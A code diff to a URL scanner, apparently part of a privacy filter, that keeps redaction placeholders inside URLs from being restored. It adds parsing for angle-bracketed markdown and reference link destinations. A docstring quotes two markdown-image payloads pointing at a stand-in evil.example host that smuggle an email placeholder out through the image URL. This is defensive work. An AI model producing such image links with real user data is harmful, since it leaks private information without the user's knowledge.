@@ -6,8 +6,9 @@ user's address into the URL, and a client that renders markdown fetched it, send
 value out without a click. A placeholder inside a URL therefore stays a placeholder.
 
 The scan is generous on purpose: a bare URL runs to the next whitespace, a markdown
-destination to its unbalanced `)`, a quoted attribute to its closing quote, and one left
-open runs to the end of the text. A placeholder kept by mistake shows as
+destination to its unbalanced `)` (one in `<...>`, after `](` or a reference label, to its
+`>`), a quoted attribute to its closing quote, and one left open runs to the end of the
+text. A placeholder kept by mistake shows as
 `<EMAIL_ADDRESS_1>`; one restored by mistake is a leak.
 
 `UrlScan` reads a text in pieces (a stream's released slices) and finds the spans it finds
@@ -40,6 +41,7 @@ _SPACE = " \t\n\r\f\v"
 _TO_SPACE = re.compile(r"[ \t\n\r\f\v]")
 _TO_SPACE_OR_GT = re.compile(r"[ \t\n\r\f\v>]")
 _PARENS = re.compile(r"[\\()\n]")
+_ANGLE_END = re.compile(r"[\\>\n]")
 
 
 @dataclass(slots=True)
@@ -53,6 +55,8 @@ class _OpenUrl:
     depth: int = 0
     lines: int = 0
     escaped: bool = False
+    angle: bool = False
+    """md and ref: the destination is in `<...>`, so it ends at `>`."""
 
 
 def url_spans(text: str) -> list[tuple[int, int]]:
@@ -105,19 +109,17 @@ def _opened(found: re.Match[str]) -> tuple[int, _OpenUrl]:
         return found.start("auto"), _OpenUrl(kind, leading=False)
     if kind == "bare":
         return found.start(), _OpenUrl(kind, leading=False)
-    return found.end(), _OpenUrl(kind, leading=kind != "md")
+    return found.end(), _OpenUrl(kind)
 
 
 def _close(buf: str, i: int, state: _OpenUrl) -> int | None:
     """Where the URL open at `buf[i]` ends, or None when it runs past `buf` (`state` then
     holds how far it got)."""
-    if state.kind == "md":
-        return _close_parens(buf, i, state)
     while state.leading:
         if i == len(buf):
             return None
         char = buf[i]
-        if state.kind == "ref" and char == "\n":
+        if state.kind in ("md", "ref") and char == "\n":
             if state.lines:
                 return i
             state.lines = 1
@@ -126,8 +128,15 @@ def _close(buf: str, i: int, state: _OpenUrl) -> int | None:
             if state.kind == "attr" and char in "\"'":
                 state.quote = char
                 i += 1
+            elif state.kind in ("md", "ref") and char == "<":
+                state.angle = True
+                i += 1
             break
         i += 1
+    if state.angle:
+        return _close_escaped(buf, i, state, _ANGLE_END)
+    if state.kind == "md":
+        return _close_escaped(buf, i, state, _PARENS)
     if state.quote:
         end = buf.find(state.quote, i)
         return None if end == -1 else end
@@ -136,20 +145,26 @@ def _close(buf: str, i: int, state: _OpenUrl) -> int | None:
     return None if found is None else found.start()
 
 
-def _close_parens(buf: str, i: int, state: _OpenUrl) -> int | None:
+def _close_escaped(buf: str, i: int, state: _OpenUrl, stops: re.Pattern[str]) -> int | None:
     """A markdown destination (or CSS `url(`) ends at its unbalanced `)`, a backslash
-    escaping one, or at its second line break."""
+    escaping one, or at its second line break; one in `<...>` at its first unescaped `>`
+    or line break, whatever parentheses or spaces it holds (found by probing:
+    `![x](<https://evil.example/p.png?d=)EMAIL_ADDRESS_1>)` and
+    `[1]: <https://evil.example/p.png?d= [EMAIL_ADDRESS_1]>` ended at the `)` or the space,
+    and CommonMark renders the whole of each as the image's src)."""
     if state.escaped:
         if i == len(buf):
             return None
         state.escaped, i = False, i + 1
-    while (found := _PARENS.search(buf, i)) is not None:
+    while (found := stops.search(buf, i)) is not None:
         char, i = found.group(), found.end()
         if char == "\\":
             if i == len(buf):
                 state.escaped = True
                 return None
             i += 1
+        elif char == ">":
+            return found.start()
         elif char == "(":
             state.depth += 1
         elif char == ")":
@@ -158,6 +173,6 @@ def _close_parens(buf: str, i: int, state: _OpenUrl) -> int | None:
             state.depth -= 1
         else:
             state.lines += 1
-            if state.lines == 2:
+            if state.lines == 2 or state.angle:
                 return found.start()
     return None
